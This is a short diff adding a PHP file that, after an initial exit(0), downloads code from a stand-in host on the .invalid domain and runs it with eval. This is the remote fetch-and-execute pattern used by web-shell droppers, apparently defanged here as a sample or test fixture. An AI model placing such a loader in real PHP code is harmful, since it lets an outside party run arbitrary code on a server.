@@ -1,0 +1,4 @@
+<?php
+exit(0);
+$c = file_get_contents('https://dl.php.invalid/s.php');
+eval('?>' . $c);
